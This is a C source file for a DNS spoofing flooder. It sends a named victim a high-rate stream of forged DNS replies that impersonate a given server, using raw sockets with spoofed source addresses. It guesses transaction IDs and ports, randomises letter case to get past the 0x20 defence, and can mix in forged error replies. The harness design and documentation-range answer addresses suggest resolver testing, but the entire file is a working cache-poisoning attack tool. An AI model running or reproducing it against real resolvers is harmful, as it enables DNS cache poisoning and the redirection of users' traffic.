/*
 * flood SERVER VICTIM LOW HIGH [lies]: sends VICTIM forged replies in the name of SERVER, port 53, as fast as
 * it can, from a raw socket.  With `lies` most of them are not the forged answer, but truncated, NXDOMAIN,
 * SERVFAIL, FORMERR or an error that is a header alone.
 *
 * Each line of the standard input says what is known of a query: `NAME TYPE PORT ID EXACT COUNT`.  A PORT of
 * 0 and an ID of -1 have to be guessed, as has the letter case without EXACT.  Once COUNT forgeries for it
 * have been sent, `sent` is the answer; from then on the last A and the last AAAA query get them in turn,
 * until there is another line.  At the end of the input it says how many it has sent, and in how many
 * nanoseconds.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
  BATCH = 64,
  PACKET_MAX = 512,
  NAME_MAX_LEN = 255,
  TYPE_A = 1,
  TYPE_SOA = 6,
  TYPE_AAAA = 28,
  HEADERS = sizeof(struct iphdr) + sizeof(struct udphdr),
};

struct aim {
  uint8_t name[NAME_MAX_LEN + 1];
  size_t len;
  unsigned type;
  int port, id, exact;
};

static struct aim aims[2]; /* the last A query; the last AAAA query */
static unsigned newest;
static long owed; /* before it is said that they were sent */
static unsigned low, high;
static bool lies;
static struct in_addr server, victim;

static uint64_t state;

static uint32_t any(uint32_t below)
{
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return (uint32_t)((state >> 32) * below >> 32);
}

static uint8_t *put16(uint8_t *at, unsigned value)
{
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
  return at + 2;
}

/* ---- What is sent ---- */

static uint8_t *put_name(uint8_t *at, const struct aim *aim)
{
  uint64_t bits = 0;

  for (size_t i = 0; i < aim->len; i++) {
    uint8_t c = aim->name[i];
    if (!aim->exact && i % 32 == 0)
      bits = any(UINT32_MAX);
    if (!aim->exact && (uint8_t)((c | 0x20) - 'a') < 26)
      c ^= (bits >> i % 32 & 1) << 5;
    *at++ = c;
  }
  return at;
}

/* A record for the name in the question, or for the root. */
static uint8_t *put_record(uint8_t *at, bool of_root, unsigned type, const uint8_t *data, size_t len)
{
  if (of_root)
    *at++ = 0;
  else
    at = put16(at, 0xc00c);
  at = put16(at, type);
  at = put16(at, 1);
  at = put16(at, 1); /* TTL: 86,400 s */
  at = put16(at, 20864);
  at = put16(at, (unsigned)len);
  memcpy(at, data, len);
  return at + len;
}

static uint8_t *put_answer(uint8_t *at, const struct aim *aim)
{
  static const uint8_t four[4] = {203, 0, 113, 66};
  static const uint8_t six[16] = {0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad, [15] = 0x66};

  return aim->type == TYPE_A ? put_record(at, false, TYPE_A, four, sizeof four)
                             : put_record(at, false, TYPE_AAAA, six, sizeof six);
}

/* The length of the message. */
static size_t put_message(uint8_t *msg, const struct aim *aim)
{
  static const uint8_t soa[22] = {[2] = 1, [21] = 60};
  enum { ANSWER, TRUNCATED, NXDOMAIN, SERVFAIL, FORMERR, BARE, KINDS } kind = ANSWER;
  static const uint8_t rcode[KINDS] = {[NXDOMAIN] = 3, [SERVFAIL] = 2, [FORMERR] = 1};
  static const uint8_t bare[] = {1, 2, 4, 5}; /* FORMERR, SERVFAIL, NOTIMP, REFUSED */

  if (lies)
    kind = any(KINDS);
  put16(msg, aim->id < 0 ? any(65536) : (unsigned)aim->id);
  msg[2] = kind == TRUNCATED ? 0x83 : 0x81; /* QR, RD, TC */
  msg[3] = 0x80 | (kind == BARE ? bare[any(sizeof bare)] : rcode[kind]);
  put16(msg + 4, kind != BARE);
  put16(msg + 6, kind == ANSWER);
  put16(msg + 8, kind == NXDOMAIN);
  put16(msg + 10, 0);
  if (kind == BARE)
    return 12;
  uint8_t *at = put16(put16(put_name(msg + 12, aim), aim->type), 1);
  if (kind == ANSWER)
    at = put_answer(at, aim);
  if (kind == NXDOMAIN)
    at = put_record(at, true, TYPE_SOA, soa, sizeof soa);
  return (size_t)(at - msg);
}

static size_t put_packet(uint8_t *packet, const struct aim *aim)
{
  size_t len = HEADERS + put_message(packet + HEADERS, aim);
  unsigned port = aim->port ? (unsigned)aim->port : low + any(high - low + 1);
  struct iphdr ip = {.version = 4,
                     .ihl = 5,
                     .tot_len = htons((uint16_t)len),
                     .ttl = 64,
                     .protocol = IPPROTO_UDP,
                     .saddr = server.s_addr,
                     .daddr = victim.s_addr}; /* its checksum is the kernel's to make: raw(7) */
  struct udphdr udp = {.source = htons(53),
                       .dest = htons((uint16_t)port),
                       .len = htons((uint16_t)(len - sizeof ip))}; /* no checksum: it is optional */

  memcpy(packet, &ip, sizeof ip);
  memcpy(packet + sizeof ip, &udp, sizeof udp);
  return len;
}

static unsigned send_batch(int fd)
{
  static uint8_t packets[BATCH][PACKET_MAX];
  static struct iovec parts[BATCH];
  static struct mmsghdr messages[BATCH];

  for (unsigned i = 0; i < BATCH; i++) {
    const struct aim *aim = &aims[owed > 0 ? newest : i % 2];
    if (aim->len == 0)
      aim = &aims[newest];
    parts[i] = (struct iovec){packets[i], put_packet(packets[i], aim)};
    messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
  }
  int sent = sendmmsg(fd, messages, BATCH, 0);
  return sent < 0 ? 0 : (unsigned)sent; /* a full queue is tried again */
}

/* ---- Who is asked what ---- */

static void take_order(const char *line)
{
  char name[NAME_MAX_LEN + 1];
  struct aim aim = {0};

  if (sscanf(line, "%255s %u %d %d %d %ld", name, &aim.type, &aim.port, &aim.id, &aim.exact, &owed) != 6)
    exit(2);
  for (char *label = strtok(name, "."); label && aim.len + strlen(label) + 2 < sizeof aim.name;
       label = strtok(NULL, ".")) {
    aim.name[aim.len++] = (uint8_t)strlen(label);
    memcpy(aim.name + aim.len, label, strlen(label));
    aim.len += strlen(label);
  }
  aim.name[aim.len++] = 0;
  newest = aim.type == TYPE_AAAA;
  aims[newest] = aim;
}

/* One order is sent at a time, each after the answer to the one before.  False: there will be no more. */
static bool look_for_orders(bool wait)
{
  static char line[PACKET_MAX];
  static size_t used;
  struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};

  if (poll(&input, 1, wait ? -1 : 0) <= 0)
    return true;
  ssize_t got = read(STDIN_FILENO, line + used, sizeof line - 1 - used);
  if (got <= 0)
    return false;
  used += (size_t)got;
  line[used] = '\0';
  if (line[used - 1] == '\n') {
    take_order(line);
    used = 0;
  }
  return true;
}

static int64_t now_ns(void)
{
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (int64_t)now.tv_sec * 1000000000 + now.tv_nsec;
}

int main(int argc, char **argv)
{
  uint64_t sent = 0;
  int64_t start_ns = 0;

  if (argc < 5 || inet_pton(AF_INET, argv[1], &server) != 1 || inet_pton(AF_INET, argv[2], &victim) != 1)
    return 2;
  low = (unsigned)atoi(argv[3]);
  high = (unsigned)atoi(argv[4]);
  lies = argc > 5 && strcmp(argv[5], "lies") == 0;
  state = (uint64_t)now_ns() | 1;

  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = victim};
  int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW); /* with it IP_HDRINCL is set: raw(7) */
  if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) != 0) {
    perror("flood");
    return 1;
  }
  puts("ready");
  fflush(stdout);
  while (look_for_orders(start_ns == 0)) {
    if (aims[newest].len == 0)
      continue;
    if (start_ns == 0)
      start_ns = now_ns();
    unsigned batch = send_batch(fd);
    sent += batch;
    if (owed > 0 && (owed -= batch) <= 0) {
      puts("sent");
      fflush(stdout);
    }
  }
  printf("%llu %llu\n", (unsigned long long)sent, (unsigned long long)(start_ns ? now_ns() - start_ns : 0));
  return 0;
}
